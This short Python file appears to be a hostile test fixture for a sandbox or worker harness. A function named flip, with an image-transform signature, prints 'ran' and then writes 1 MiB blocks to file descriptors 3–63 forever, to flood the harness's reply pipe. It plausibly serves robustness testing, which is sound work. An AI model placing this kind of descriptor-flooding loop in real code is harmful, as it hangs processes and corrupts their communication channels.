"""Class: flood the reply pipe, and every other descriptor, without end."""

import os


def flip(images, indices, epoch):
    print("ran", flush=True)
    while True:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b"x" * 2**20)
            except OSError:
                continue
